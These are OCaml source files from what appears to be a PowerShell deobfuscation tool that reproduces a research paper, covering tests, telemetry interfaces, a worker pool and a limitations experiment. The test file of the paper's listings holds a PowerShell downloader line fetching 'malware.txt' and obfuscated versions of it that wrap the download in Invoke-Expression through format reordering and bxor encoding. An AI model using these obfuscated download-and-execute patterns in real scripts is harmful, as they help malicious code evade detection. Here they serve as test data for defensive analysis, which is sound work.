  QCheck.Test.make ~name:"engine: deobfuscation preserves network behaviour"
    ~count:40 QCheck.small_nat
    (fun seed ->
      let rng = Rng.of_int (seed * 31 + 7) in
      let _, clean = Corpus.Templates.generate rng in
      let ob, _ = Obfuscator.Obfuscate.wild_mix rng clean in
      let out = deobf ob in
      Sandbox.same_network_behavior (Sandbox.run ob) (Sandbox.run out))

let prop_deobf_never_raises =
  QCheck.Test.make ~name:"engine: never raises on arbitrary input" ~count:200
    QCheck.(string_of_size Gen.(int_range 0 80))
    (fun junk ->
      match Deobf.Engine.run junk with
      | _ -> true
      | exception _ -> false)

(* mutation fuzz: valid obfuscated scripts, randomly truncated or spliced,
   must never crash the engine (they may of course come back unchanged) *)
let prop_deobf_survives_mutations =
  QCheck.Test.make ~name:"engine: never raises on mutated scripts" ~count:120
    QCheck.(pair small_nat (pair small_nat small_nat))
    (fun (seed, (cut_a, cut_b)) ->
      let rng = Rng.of_int (seed + 3000) in
      let _, clean = Corpus.Templates.generate rng in
      let ob, _ = Obfuscator.Obfuscate.wild_mix rng clean in
      let n = String.length ob in
      let a = cut_a mod (n + 1) and b = cut_b mod (n + 1) in
      let lo = min a b and hi = max a b in
      let mutated = String.sub ob 0 lo ^ String.sub ob hi (n - hi) in
      match Deobf.Engine.run mutated with
      | _ -> true
      | exception _ -> false)

(* differential check: every technique, every position, several seeds —
   the engine must recover the canonical command (Table II, our column) *)
let test_differential_all_techniques () =
  let tool = Baselines.All_tools.invoke_deobfuscation in
  List.iter
    (fun technique ->
      if technique <> Obfuscator.Technique.Enc_whitespace then
        check_b
          (Obfuscator.Technique.name technique ^ " full recovery")
          true
          (Experiments.Table2.test_cell tool technique = Experiments.Table2.Full))
    Obfuscator.Technique.all

(* unwrapping can EXPOSE obfuscation that was hidden inside an encoded
   layer, so per-sample monotonicity does not hold; the paper's claim is an
   aggregate reduction, tested here over a small corpus *)
let test_score_reduces_on_average () =
  let total_before = ref 0 and total_after = ref 0 in
  let rng = Rng.of_int 2024 in
  for _ = 1 to 30 do
    let _, clean = Corpus.Templates.generate rng in
    let ob, _ = Obfuscator.Obfuscate.wild_mix rng clean in
    total_before := !total_before + Deobf.Score.score ob;
    total_after := !total_after + Deobf.Score.score (deobf ob)
  done;
  check_b "halved on average" true (!total_after * 2 < !total_before)

let suite =
  [
    ("token phase: ticks", `Quick, test_token_phase_ticks);
    ("token phase: alias", `Quick, test_token_phase_alias);
    ("token phase: case", `Quick, test_token_phase_case);
    ("token phase: members/types", `Quick, test_token_phase_members_types);
    ("token phase: strings untouched", `Quick, test_token_phase_preserves_strings);
    ("token phase: invalid input unchanged", `Quick, test_token_phase_keeps_invalid_input);
    ("recover: concat", `Quick, test_recover_concat);
    ("recover: format", `Quick, test_recover_format);
    ("recover: assignment position", `Quick, test_recover_in_assignment);
    ("recover: pipe position", `Quick, test_recover_in_pipe);
    ("tracing: propagation", `Quick, test_variable_tracing);
    ("tracing: loop variables skipped", `Quick, test_tracing_skips_loop_variables);
    ("tracing: conditionals skipped", `Quick, test_tracing_skips_conditional);
    ("tracing: eviction after loop", `Quick, test_tracing_eviction_after_loop);
    ("recover: unknown variable kept", `Quick, test_unknown_variable_piece_kept);
    ("recover: blocklist", `Quick, test_blocklist_prevents_execution);
    ("recover: byte results kept", `Quick, test_byte_results_kept);
    ("recover: write-host kept", `Quick, test_write_host_not_erased);
    ("multilayer: literal iex", `Quick, test_multilayer_literal_iex);
    ("multilayer: obfuscated iex", `Quick, test_multilayer_obfuscated_iex);
    ("multilayer: pipe form", `Quick, test_multilayer_pipe_form);
    ("multilayer: powershell -enc", `Quick, test_multilayer_powershell_enc);
    ("multilayer: nested", `Quick, test_multilayer_nested);
    ("multilayer: whitespace encoding static limit", `Quick, test_whitespace_encoding_static_limit);
    ("rename: random names", `Quick, test_rename_random_names);
    ("rename: readable kept", `Quick, test_rename_keeps_readable_names);
    ("rename: functions", `Quick, test_rename_functions);
    ("rename: interpolations", `Quick, test_rename_updates_interpolations);
    ("rename: randomness statistic", `Quick, test_names_look_random_stats);
    ("reformat: whitespace", `Quick, test_reformat_collapses_whitespace);
    ("reformat: keeps comments", `Quick, test_reformat_keeps_comments);
    ("report: analyze/json", `Quick, test_report_analyze);
    ("reformat: indentation", `Quick, test_reformat_indents_blocks);
    ("reformat: member adjacency", `Quick, test_reformat_preserves_member_adjacency);
    ("reformat: for semicolons", `Quick, test_reformat_keeps_for_semicolons);
    ("score: technique detection", `Quick, test_score_detects_techniques);
    ("score: clean is zero", `Quick, test_score_clean_script_zero);
    ("score: level weighting", `Quick, test_score_levels_weighting);
    ("score: once per technique", `Quick, test_score_counts_each_technique_once);
    ("engine: invalid input unchanged", `Quick, test_engine_invalid_input_unchanged);
    ("engine: output always valid", `Quick, test_engine_output_always_valid);
    ("engine: idempotent on clean", `Quick, test_engine_idempotent_on_clean);
    ("engine: paper case study", `Quick, test_paper_case_study);
    ("engine: large sample performance", `Slow, test_large_sample_performance);
    QCheck_alcotest.to_alcotest prop_deobf_preserves_network_behavior;
    QCheck_alcotest.to_alcotest prop_deobf_never_raises;
    QCheck_alcotest.to_alcotest prop_deobf_survives_mutations;
    ("differential: all techniques", `Slow, test_differential_all_techniques);
    ("score reduces on average", `Quick, test_score_reduces_on_average);
  ]
