(** Observability substrate: span tracer, metrics registry, leveled logger.

    Three independent facilities behind one zero-dependency module:
    {ul
    {- a {e span/event tracer} — nestable spans and point events with
       monotonic (non-decreasing) millisecond timestamps and typed
       attributes, recorded into a per-run ring buffer that serializes to
       JSONL.  A trace is installed as the {e ambient} context of the
       current domain ([Domain.DLS]), so instrumented code anywhere below
       records into it without threading a handle — and parallel batch
       workers, each installing their own per-file trace, never share a
       buffer;}
    {- a {e metrics registry} — process-global named counters, gauges and
       log-scale latency histograms, every cell an [Atomic], safe to bump
       from any pool domain concurrently and aggregated by {!Metrics.snapshot};}
    {- a {e leveled logger} — [error|warn|info|debug] to stderr, silent by
       default, for the ad-hoc prints a pipeline otherwise accretes.}}

    The disabled fast path (no ambient trace installed) is a domain-local
    read plus a comparison — no allocation — so call sites stay
    unconditional even in hot loops. *)

type attr_value = S of string | I of int | F of float | B of bool
type attr = string * attr_value

(** Leveled stderr logger, silent unless {!Log.set_level} enables it. *)
module Log : sig
  type level = Error | Warn | Info | Debug

  val of_string : string -> level option
  (** ["error" | "warn"("ing") | "info" | "debug"], case-insensitive. *)

  val label : level -> string

  val set_level : level option -> unit
  (** [None] (the default) silences everything; [Some l] enables messages
      at [l] and above.  Stored in an [Atomic]: a level set before spawning
      pool workers is visible to all of them. *)

  val level : unit -> level option

  val enabled : level -> bool

  type format = Text | Json
      (** [Text] (the default): ["[level] msg"].  [Json]: one JSON object
          per line — [{"ts": epoch_s, "level": …, "domain": id, "msg": …,
          <fields>}] — for log pipelines. *)

  val set_format : format -> unit
  (** Process-wide, like the level (an [Atomic]). *)

  val format : unit -> format

  val format_of_string : string -> format option
  (** ["text" | "json"("l")], case-insensitive. *)

  val log : ?fields:attr list -> level -> (unit -> string) -> unit
  (** [fields] are appended as extra top-level JSON fields in [Json] mode
      and ignored in [Text] mode. *)

  val error : (unit -> string) -> unit
  val warn : (unit -> string) -> unit
  val info : (unit -> string) -> unit
  val debug : (unit -> string) -> unit
  (** Messages are thunks so a disabled level formats nothing.  Emission is
      mutex-serialized: concurrent domains never interleave lines. *)
end

(** {1 Trace / request identifiers}

    Correlation ids for request-scoped tracing: the daemon (or batch
    driver) installs one id around each request, and everything recorded
    in scope — trace events, flight-recorder entries, response fields —
    carries it.  Ids are observation-only: they draw from a process
    counter, never from anything output-affecting. *)

val new_trace_id : unit -> string
(** A fresh process-unique id (["nonce-counter"], hex). *)

val current_request_id : unit -> string option
(** The ambient request id of this domain, if one is installed. *)

val with_request_id : string -> (unit -> 'a) -> 'a
(** Install [rid] as this domain's ambient request id for the duration of
    the call (exception-safe, restores the previous id).  Traces created
    or {!reset} in scope adopt it as their {!trace_id}; flight-recorder
    entries stamp it. *)

(** {1 Traces} *)

type kind = Span_begin | Span_end | Point

type event = {
  seq : int;  (** 0-based position in the run's full event stream *)
  t_ms : float;
      (** milliseconds since trace creation; clamped so the stream is
          non-decreasing even if the wall clock steps backwards *)
  kind : kind;
  name : string;
  id : int;  (** span id ([>= 1]) for begin/end events; [0] for points *)
  parent : int;  (** id of the enclosing span, [0] at top level *)
  attrs : attr list;
}

type trace
(** A bounded per-run event buffer.  Single-domain by design: install it
    with {!with_trace} and record through the ambient API.  When more than
    [capacity] events are pushed the ring overwrites the oldest and counts
    them in {!dropped}. *)

val create : ?capacity:int -> unit -> trace
(** Default capacity 65536 events (floor 16).  The new trace's
    {!trace_id} is the ambient request id when one is in scope, else
    freshly allocated. *)

val trace_id : trace -> string
(** The trace's correlation id, stamped on every serialized event line. *)

val set_trace_id : trace -> string -> unit

val reset : trace -> unit
(** Rewind the trace to empty for reuse, keeping the allocated ring: the
    clock restarts, sequence numbers and span ids restart at 0, and the
    open-span stack is cleared.  Long-running services (and sampling batch
    runs) reuse one ring per domain instead of allocating one per
    request. *)

val install : trace -> unit
(** Make [trace] the current domain's ambient trace. *)

val uninstall : unit -> unit

val with_trace : trace -> (unit -> 'a) -> 'a
(** Install for the duration of the call (exception-safe), restoring the
    previously ambient trace afterwards. *)

val active : unit -> bool
(** Whether anything records in this domain — an ambient trace installed,
    or the flight recorder enabled — the guard hot call sites use before
    building attribute lists. *)

val span : ?attrs:attr list -> string -> (unit -> 'a) -> 'a
(** [span name f] wraps [f] in a begin/end event pair nested under the
    innermost open span.  With no ambient trace this is [f ()]. *)

val span_begin : ?attrs:attr list -> string -> int
(** Imperative variant for call sites that attach result attributes to the
    end event: returns the span id, or [0] when no trace is installed. *)

val span_end : ?attrs:attr list -> int -> unit
(** Close the span by id ([0] is a no-op).  Spans opened after it and still
    open are auto-closed first, so a non-local exit cannot corrupt
    nesting. *)

val event : ?attrs:attr list -> string -> unit
(** Record a point event under the innermost open span. *)

val events : trace -> event list
(** Buffered events, oldest first (at most [capacity]; earlier ones were
    dropped by the ring). *)

val dropped : trace -> int

val to_jsonl : trace -> string
(** One JSON object per event per line, oldest first — each line carrying
    the trace's {!trace_id} alongside the span [id]/[parent] pair — closed
    by a summary line [{"kind": "summary", "trace_id": …, "events": total,
    "dropped": n}]. *)

val events_to_json_array : trace -> string
(** The buffered events as one single-line JSON array (no summary line) —
    the serve protocol's inline [trace] response field. *)

(** {1 Flight recorder}

    A per-domain black box: a fixed ring of the most recent spans/events,
    fed from the same instrumentation call sites as the tracer but
    independent of any installed trace, dumped as JSONL when a fault
    warrants forensics (worker recycled, deadline blown, chaos containment,
    diverged verdict).  Disabled — the default — it costs one atomic load
    per instrumentation call; enabled, recording is allocation-light and
    serialization happens only at dump time. *)
module Flight : sig
  val set_sink : string option -> unit
  (** [Some dir] enables recording and directs dumps into [dir] (created
      on first dump if missing); [None] (the default) disables. *)

  val enabled : unit -> bool

  val record : ?attrs:attr list -> string -> unit
  (** Append an explicit entry (kind ["note"]) to this domain's ring — for
      context the automatic span/event feed does not carry. *)

  val dump : reason:string -> unit -> string option
  (** Serialize this domain's ring (header line with [reason], the
      triggering request's trace id and the domain id, then one line per
      entry, oldest first), write it to the sink directory, and clear the
      ring.  Returns the path written; [None] when disabled or the write
      failed — a failing dump never takes the request path down. *)

  val dumps_total : unit -> int
  (** Dumps attempted since process start (monotonic, process-wide). *)
end

(** {1 Metrics} *)

(** Process-global registry of named counters, gauges and log-scale latency
    histograms.  Handles are cheap to look up (get-or-create under a mutex)
    and updates are lock-free [Atomic] operations, so pool domains bump the
    same cells concurrently; {!Metrics.snapshot} aggregates across all of
    them at join time. *)
module Metrics : sig
  type counter

  val counter : string -> counter
  (** Get or create by name. *)

  val incr : ?by:int -> counter -> unit
  val counter_value : counter -> int

  type gauge

  val gauge : string -> gauge
  val set : gauge -> int -> unit
  val gauge_value : gauge -> int

  type histogram
  (** Log-scale (base-2) latency histogram in milliseconds: bucket bounds
      run from 1/16 ms doubling to ~37 h, plus an overflow bucket.
      Observations at a bound land in that bucket; [<= 1/16 ms] (including
      zero and negatives) land in the first. *)

  val histogram : string -> histogram
  val observe : histogram -> float -> unit

  val bucket_bound : int -> float
  (** Upper bound (ms) of bucket [i]; [infinity] for the overflow bucket. *)

  val bucket_of : float -> int
  (** Index of the bucket an observation lands in. *)

  val bucket_count : int

  type histogram_snapshot = {
    hs_count : int;
    hs_sum : float;
    hs_min : float;  (** [nan] when empty *)
    hs_max : float;  (** [nan] when empty *)
    hs_buckets : (float * int) list;
        (** non-empty buckets as (upper bound ms, count), bound order; the
            overflow bucket's bound is [infinity] *)
  }

  type snapshot = {
    counters : (string * int) list;  (** sorted by name *)
    gauges : (string * int) list;
    histograms : (string * histogram_snapshot) list;
  }

  val snapshot : unit -> snapshot

  val quantile : histogram_snapshot -> float -> float
  (** [quantile hs q] ([q] in [0,1], clamped) estimates the q-th latency
      quantile as the upper bound of the log2 bucket holding the q-th
      observation ([hs_max] for the overflow bucket); [nan] when empty.
      Coarse (buckets double) but monotone — the daemon's p50/p99. *)

  val reset : unit -> unit
  (** Zero every registered value (handles stay valid) — run at the start
      of a batch so the run-level rollup covers exactly that run. *)

  val snapshot_to_json : snapshot -> string
  (** Histogram entries carry [p50_ms]/[p90_ms]/[p99_ms] (via {!quantile})
      alongside the raw log2 buckets. *)

  val to_prometheus : snapshot -> string
  (** Prometheus text exposition (format version 0.0.4): counters as
      [_total]-suffixed counters, gauges as gauges, histograms as
      cumulative [_bucket{le=…}] series with [_sum]/[_count].  Dotted
      registry names map to underscores under the [invoke_deobf_]
      prefix. *)
end

(** {1 Rolling windows}

    Live aggregates for the scrape endpoint: the registry's histograms are
    cumulative since boot, a window answers "the last minute".  The newest
    [capacity] observations are kept with timestamps in a mutex-guarded
    ring; quantiles/rates aggregate only observations inside the horizon
    at read time, so the cost of aggregation (copy + sort) is paid by the
    scraper, never the request path. *)
module Window : sig
  type t

  val window : ?capacity:int -> ?horizon_s:float -> string -> t
  (** Get or create by name (process-global registry, like metrics).
      Defaults: capacity 1024 (floor 16), horizon 60 s. *)

  val observe : ?at:float -> t -> float -> unit
  (** O(1).  [at] (epoch seconds, default now) exists so tests can replay
      a synthetic stream with pinned timestamps. *)

  val quantile : ?now:float -> t -> float -> float
  (** Nearest-rank quantile over in-horizon samples — exact for the
      window's contents, [nan] when empty. *)

  val rate : ?now:float -> t -> float
  (** In-horizon observations per second. *)

  val mean : ?now:float -> t -> float
  (** [nan] when empty. *)

  val count : ?now:float -> t -> int
  val reset : t -> unit

  val to_prometheus : ?now:float -> unit -> string
  (** Every registered window as labelled gauges
      ([invoke_deobf_window_p50_ms{window="…"}] etc.); empty string when no
      windows exist. *)
end

val render_prometheus : unit -> string
(** The scrape endpoint's whole body: {!Metrics.to_prometheus} of a fresh
    snapshot plus {!Window.to_prometheus}. *)

(** {1 JSON helpers} *)

val json_escape : string -> string
val json_string : string -> string
