(** Structured edit journal for the semantic-equivalence gate.

    The pipeline records every in-place extent edit it lands, grouped into
    stages (one per successful phase application).  Stage outputs chain —
    each stage's input is the previous stage's output — so replaying a
    prefix of the flattened edit sequence reproduces the recorded
    intermediate texts exactly; {!Verify} bisects on that. *)

type edit = {
  phase : string;  (** producing phase: ["token"], ["recover"], ["simplify"] *)
  kind : string;  (** finer site label: ["piece"], ["substitute"], ["unwrap"], … *)
  pass : int;  (** fixpoint pass index; [-1] for the entry token phase *)
  start : int;
  stop : int;  (** byte extent in the stage's input text *)
  before : string;
  after : string;
}

type stage = {
  s_phase : string;
  s_pass : int;
  s_edits : edit list;  (** in application order (sorted, nesting resolved) *)
}

type t

val create : unit -> t

val record_stage :
  t -> phase:string -> pass:int -> src:string ->
  (Pscommon.Patch.edit * string) list -> unit
(** Record one applied stage: [(edit, kind)] pairs against stage input
    [src].  Normalizes exactly as {!Pscommon.Patch.apply} does (sorted,
    nested edits dropped) so the journal reflects what was actually
    performed.  Call only after the stage's output was accepted
    (syntax-validated) — rejected stages must not be journaled. *)

val stages : t -> stage list
(** Chronological. *)

val total : t -> int
(** Total recorded edits across all stages. *)

val flatten : stage list -> edit array
(** Edits in global application order. *)

val replay_prefix : src:string -> stage list -> int -> string
(** [replay_prefix ~src stages n] applies the first [n] flattened edits to
    [src]: whole stages reproduce recorded intermediate texts byte for
    byte; a trailing partial stage applies a prefix of its edits; later
    stages are dropped.  The result may not parse — callers treat that as
    a divergent state. *)

(** {2 Suppression (rollback)}

    Rollback re-runs the pipeline with offending edits suppressed by
    content [(phase, before, after)], not position — a re-run recomputes
    all downstream offsets, and a divergent rewrite is unsafe wherever the
    same text recurs. *)

type suppression = { sup_phase : string; sup_before : string; sup_after : string }

val suppress_edit : edit -> suppression

val suppress_finalize : suppression
(** Pseudo-suppression rolling back the finalization phase (rename +
    reformat), whose rewrites are not extent edits. *)

val finalize_suppressed : suppression list -> bool

val suppressed : suppression list -> phase:string -> before:string -> after:string -> bool

val describe : suppression -> string
(** Short human-readable form for logs and telemetry. *)
