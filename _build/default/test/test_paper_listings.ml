(* The paper's own example listings (§II-B): Listing 1 is the clean
   downloader; Listings 2–4 obfuscate it at L1, L2 and L3.  The tool must
   bring each one back. *)

open Pscommon

let check_b = Alcotest.(check bool)
let check_s = Alcotest.(check string)

let listing1 =
  "(New-Object Net.WebClient).downloadstring('https://test.com/malware.txt')"

(* Listing 2: ticking + random case *)
let listing2 =
  "(nE`w-oBjE`Ct nET.wE`bcLiEnT).DoWNlOaDsTrIng('https://test.com/malware.txt')"

(* Listing 3: format reordering over 17 pieces, with a .Replace-encoded
   quote, wrapped in Invoke-Expression — reconstructed faithfully from the
   paper's text *)
let listing3 =
  "Invoke-Expression ((\"{13}{0}{8}{6}{12}{16}{7}{14}{10}{1}{9}{5}{15}{3}{2}{11}{4}\" \
   -f 'e','Uht','om/malwar','t.c','.txtjYU)','://','et','nloadst','ct N','tps','(jY','e','.WebCl','(New-Obj','ring','tes','ient).dow')\
   .RepLACe('jYU',[STRiNg][CHar]39))"

(* Listing 4: bxor-encoded payload with multiple split separators, invoked
   through $env:comspec indexing — same construction as the paper's, with
   separators consistent with the encoded string *)
let listing4 =
  let payload = listing1 in
  let key = 0x4B in
  let seps = [| "~"; "d"; "}"; "i" |] in
  let codes =
    String.concat ""
      (List.mapi
         (fun i c ->
           (if i = 0 then "" else seps.(i mod 4))
           ^ string_of_int (Char.code c lxor key))
         (List.init (String.length payload) (String.get payload)))
  in
  Printf.sprintf
    "( '%s'-SPLIT'~' -SPLit 'd'-SPliT'}'-SPLiT 'i'| fOrEAch-ObJECt{ [cHAR]($_ \
     -BxoR'0x4B' ) })-jOiN'' |& ( $Env:coMSpEC[4,24,25]-JOiN'')"
    codes

let deobf src =
  (Deobf.Engine.run
     ~options:{ Deobf.Engine.default_options with rename = false }
     src)
    .Deobf.Engine.output

let normalized s =
  (* compare on canonical casing *)
  Strcase.lower (String.trim s)

let expect_recovers_listing1 name obfuscated =
  let out = deobf obfuscated in
  check_b (name ^ " reaches listing 1") true
    (Strcase.contains ~needle:"(new-object net.webclient).downloadstring('https://test.com/malware.txt')"
       (normalized out))

let test_listing2 () = expect_recovers_listing1 "listing 2 (L1)" listing2

let test_listing3 () =
  (* the inner format expression alone evaluates to listing 1 with quotes *)
  expect_recovers_listing1 "listing 3 (L2+replace+iex)" listing3

let test_listing4 () = expect_recovers_listing1 "listing 4 (L3 bxor)" listing4

let test_listing3_piece_evaluates () =
  (* sanity: the reconstructed format string assembles the right text *)
  let env = Pseval.Env.create () in
  let piece =
    "(\"{13}{0}{8}{6}{12}{16}{7}{14}{10}{1}{9}{5}{15}{3}{2}{11}{4}\" \
     -f 'e','Uht','om/malwar','t.c','.txtjYU)','://','et','nloadst','ct N','tps','(jY','e','.WebCl','(New-Obj','ring','tes','ient).dow')\
     .RepLACe('jYU',[STRiNg][CHar]39)"
  in
  match Pseval.Interp.invoke_piece env piece with
  | Ok (Psvalue.Value.Str s) ->
      check_s "assembled" "(New-Object Net.WebClient).downloadstring('https://test.com/malware.txt')" s
  | Ok _ -> Alcotest.fail "expected string"
  | Error e -> Alcotest.fail e

let test_listings_same_behavior () =
  let reference = Sandbox.run listing1 in
  List.iter
    (fun (name, script) ->
      check_b (name ^ " behaves like listing 1") true
        (Sandbox.same_network_behavior reference (Sandbox.run script));
      let out = deobf script in
      check_b (name ^ " deobfuscated behaves like listing 1") true
        (Sandbox.same_network_behavior reference (Sandbox.run out)))
    [ ("listing2", listing2); ("listing3", listing3); ("listing4", listing4) ]

let suite =
  [
    ("listing 2 recovery", `Quick, test_listing2);
    ("listing 3 recovery", `Quick, test_listing3);
    ("listing 4 recovery", `Quick, test_listing4);
    ("listing 3 piece evaluates", `Quick, test_listing3_piece_evaluates);
    ("listings behaviour", `Quick, test_listings_same_behavior);
  ]
