lib/baselines/tool.mli: Pseval
