(** Fixed-size domain pool: parallel map over a work queue with
    deterministic, input-ordered results.

    Built for batch deobfuscation: each work item is independent, already
    totalised by {!Guard.protect}, and its result slot is private to the
    item, so the only shared state is the index counter.  Worker domains
    pull the next index atomically; results land in a pre-sized array, so
    the output order is the input order regardless of scheduling. *)

val recommended_jobs : unit -> int
(** [Domain.recommended_domain_count ()] — the hardware's parallelism. *)

val map : ?jobs:int -> ('a -> 'b) -> 'a list -> 'b list
(** [map ~jobs f items] applies [f] to every item, running up to [jobs]
    domains (the calling domain counts as one).  [jobs <= 1] runs
    sequentially in the calling domain, spawning nothing.  Results are in
    input order.  If [f] raises, the exception with the lowest input index
    is re-raised after all workers have drained (callers in this codebase
    pass total functions, so this is a backstop, not a protocol).

    Parallel runs feed the {!Telemetry.Metrics} registry: histograms
    [pool.queue_wait_ms] (pool start → claim) and [pool.run_ms] per item,
    counters [pool.tasks.d<k>] per worker domain, gauge [pool.jobs]. *)

val iter : ?jobs:int -> ('a -> unit) -> 'a list -> unit
(** [iter ~jobs f items] — {!map} with unit results. *)

(** Persistent bounded-queue worker pool — the daemon-shaped counterpart of
    {!map}.  A fixed set of worker domains drains a bounded queue for the
    life of the process; the bound is the admission-control contract:
    {!Service.submit} never blocks and never grows memory, it simply
    refuses when full so the caller can shed the request explicitly. *)
module Service : sig
  type 'a t

  val create : jobs:int -> queue_cap:int -> ('a -> unit) -> 'a t
  (** [create ~jobs ~queue_cap handler] spawns [max 1 jobs] worker domains
      (the caller is {e not} a worker — it keeps its own loop, e.g. the
      accept loop) that each pop items and run [handler].  A handler that
      raises costs that one item (logged, counted in
      [pool.service.recycled], and — when the {!Telemetry.Flight} recorder
      is enabled — dumped as a flight-recorder JSONL black box) — the
      worker recycles and keeps serving.
      Queue wait and run time feed the shared [pool.queue_wait_ms] /
      [pool.run_ms] histograms; [pool.service.depth] gauges the queue. *)

  val submit : 'a t -> 'a -> bool
  (** Enqueue without blocking.  [false] means shed: the queue is at
      [queue_cap] or the pool is shutting down, and the item was {e not}
      accepted. *)

  val depth : 'a t -> int
  (** Items queued and not yet claimed by a worker. *)

  val inflight : 'a t -> int
  (** Items currently being handled by workers. *)

  val shutdown : 'a t -> unit
  (** Graceful drain: stop accepting, let workers finish every item already
      queued, then join them.  Blocks until the last handler returns. *)
end
