(** §V-C — the paper's own limitations, reproduced.

    Two documented failure modes:
    {ul
    {- {b loop decoders} (whitespace encoding): the decoded value is built
       by a loop, and Algorithm 1 refuses to record loop-assigned
       variables;}
    {- {b function nesting}: the recovery algorithm lives in a function and
       the obfuscated data reaches it through calls, so no single
       recoverable piece contains both.}}

    A reproduction that silently fixed these would be a different system;
    this experiment asserts they fail the same way the paper says. *)

open Pscommon

type case = { name : string; script : string; payload_marker : string }

let cases () =
  let rng = Rng.of_int 4242 in
  [
    {
      name = "whitespace-encoding (loop decoder)";
      script =
        Obfuscator.Obfuscate.apply rng Obfuscator.Technique.Enc_whitespace
          "write-host hidden-payload-one";
      payload_marker = "hidden-payload-one";
    };
    {
      name = "function-nested decoder";
      script =
        "function decode($s) {\n\
        \  $out = ''\n\
        \  foreach ($c in $s.ToCharArray()) { $out += [char]([int]$c - 1) }\n\
        \  $out\n\
         }\n\
         $enc = 'xsjuf.iptu!ijeefo.qbzmpbe.uxp'\n\
         & ('ie'+'x') (decode $enc)";
      payload_marker = "hidden-payload-two";
    };
    {
      name = "straight-line control (recovers fine)";
      script = "& ('ie'+'x') ('write-host hidden'+'-payload-three')";
      payload_marker = "hidden-payload-three";
    };
  ]

type row = { case : string; recovered : bool; behavior_preserved : bool }

let run () =
  List.map
    (fun c ->
      let out = (Deobf.Engine.run c.script).Deobf.Engine.output in
      {
        case = c.name;
        recovered = Strcase.contains ~needle:c.payload_marker out;
        behavior_preserved =
          Sandbox.same_network_behavior (Sandbox.run c.script) (Sandbox.run out);
      })
    (cases ())

let print rows =
  Printf.printf "SS V-C: documented limitations\n";
  Printf.printf "  %-38s %10s %20s\n" "Case" "recovered" "behaviour preserved";
  List.iter
    (fun r ->
      Printf.printf "  %-38s %10s %20s\n" r.case
        (if r.recovered then "yes" else "no")
        (if r.behavior_preserved then "yes" else "NO"))
    rows;
  Printf.printf
    "  (paper: loop decoders and function nesting defeat tracing, but the \
     output must still behave identically)\n"
