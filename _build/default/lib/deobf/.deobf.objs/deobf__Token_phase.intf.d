lib/deobf/token_phase.mli:
