(* Telemetry layer: span nesting and ordering, JSONL serialization,
   histogram bucket edges, cross-domain metrics aggregation, batch trace
   identity, and the zero-allocation disabled path. *)

module T = Pscommon.Telemetry
module M = Pscommon.Telemetry.Metrics
module Pool = Pscommon.Pool

let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)
let check_s = Alcotest.(check string)

(* ---------- spans ---------- *)

let test_span_nesting () =
  let tr = T.create () in
  T.with_trace tr (fun () ->
      T.span "outer" (fun () ->
          T.event "point" ~attrs:[ ("k", T.I 1) ];
          T.span "inner" (fun () -> ());
          ()));
  let evs = T.events tr in
  check_i "five events" 5 (List.length evs);
  let names = List.map (fun (e : T.event) -> e.T.name) evs in
  check_b "order" true
    (names = [ "outer"; "point"; "inner"; "inner"; "outer" ]);
  let kinds = List.map (fun (e : T.event) -> e.T.kind) evs in
  check_b "kinds" true
    (kinds
    = [ T.Span_begin; T.Point; T.Span_begin; T.Span_end; T.Span_end ]);
  (* sequence numbers are dense and timestamps never go backwards *)
  List.iteri (fun i (e : T.event) -> check_i "seq" i e.T.seq) evs;
  let rec mono = function
    | (a : T.event) :: (b : T.event) :: rest ->
        check_b "t_ms non-decreasing" true (b.T.t_ms >= a.T.t_ms);
        mono (b :: rest)
    | _ -> ()
  in
  mono evs;
  (* parentage: the point and inner span nest under outer *)
  match evs with
  | [ outer_b; point; inner_b; inner_e; outer_e ] ->
      check_i "outer at top level" 0 outer_b.T.parent;
      check_i "point under outer" outer_b.T.id point.T.parent;
      check_i "inner under outer" outer_b.T.id inner_b.T.parent;
      check_i "inner end id" inner_b.T.id inner_e.T.id;
      check_i "outer end id" outer_b.T.id outer_e.T.id
  | _ -> Alcotest.fail "unexpected event shape"

let test_span_end_autoclose () =
  (* span_end on an outer id closes intervening open spans first, so a
     non-local exit cannot corrupt nesting *)
  let tr = T.create () in
  T.with_trace tr (fun () ->
      let outer = T.span_begin "outer" in
      let _inner = T.span_begin "inner" in
      T.span_end outer);
  let kinds_and_names =
    List.map (fun (e : T.event) -> (e.T.kind, e.T.name)) (T.events tr)
  in
  check_b "inner auto-closed before outer" true
    (kinds_and_names
    = [ (T.Span_begin, "outer"); (T.Span_begin, "inner");
        (T.Span_end, "inner"); (T.Span_end, "outer") ])

let test_disabled_is_inert () =
  T.uninstall ();
  check_b "no ambient trace" false (T.active ());
  check_i "span_begin returns 0" 0 (T.span_begin "nope");
  T.span_end 0;
  T.event "nope";
  check_i "span runs the thunk" 41 (T.span "nope" (fun () -> 41))

(* ---------- JSONL ---------- *)

let test_jsonl_roundtrip () =
  let tr = T.create () in
  T.with_trace tr (fun () ->
      T.span "phase" ~attrs:[ ("file", T.S "a\"b\nc") ] (fun () ->
          T.event "hit" ~attrs:[ ("n", T.I 3); ("r", T.F 0.5); ("ok", T.B true) ]));
  let jsonl = T.to_jsonl tr in
  let lines =
    String.split_on_char '\n' jsonl |> List.filter (fun l -> l <> "")
  in
  check_i "events + summary line" (List.length (T.events tr) + 1)
    (List.length lines);
  List.iter
    (fun l ->
      check_b "line is an object" true
        (String.length l >= 2 && l.[0] = '{' && l.[String.length l - 1] = '}'))
    lines;
  let line n = List.nth lines n in
  (* attribute escaping: the quote and newline survive as JSON escapes *)
  check_b "escaped string attr" true
    (Pscommon.Strcase.contains ~needle:"\"file\": \"a\\\"b\\nc\"" (line 0));
  check_b "int, float and bool attrs" true
    (Pscommon.Strcase.contains ~needle:"\"n\": 3" (line 1)
    && Pscommon.Strcase.contains ~needle:"\"ok\": true" (line 1));
  (* every line (and the summary) carries the trace's correlation id *)
  List.iter
    (fun l ->
      check_b "line carries trace_id" true
        (Pscommon.Strcase.contains
           ~needle:(Printf.sprintf "\"trace_id\": \"%s\"" (T.trace_id tr))
           l))
    lines;
  check_b "summary line" true
    (Pscommon.Strcase.contains
       ~needle:"\"kind\": \"summary\"" (line 3)
    && Pscommon.Strcase.contains ~needle:"\"events\": 3, \"dropped\": 0"
         (line 3))

let test_ring_drops_oldest () =
  let tr = T.create ~capacity:16 () in
  T.with_trace tr (fun () ->
      for i = 1 to 40 do
        T.event "e" ~attrs:[ ("i", T.I i) ]
      done);
  check_i "dropped count" 24 (T.dropped tr);
  let evs = T.events tr in
  check_i "buffer holds capacity" 16 (List.length evs);
  (* the survivors are the newest, still in order *)
  check_i "first surviving seq" 24 ((List.hd evs).T.seq);
  check_b "summary counts the full stream" true
